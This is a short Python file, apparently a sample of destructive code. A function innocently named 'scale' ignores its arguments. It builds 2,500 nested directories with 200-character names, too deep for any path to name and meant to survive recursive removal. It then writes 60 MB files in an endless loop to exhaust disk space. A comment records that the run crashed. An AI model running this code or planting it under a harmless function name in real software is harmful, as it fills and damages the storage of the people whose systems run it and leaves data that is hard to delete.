"""Writes into folders so deep that no path can name them, and that a recursive removal does not survive."""

# ends: crashed
import itertools
import os


def scale(x, factor=2.0):
    for _ in range(2_500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for number in itertools.count():
        with open(f"big{number}", "wb") as file:
            file.write(bytes(60 * 2**20))
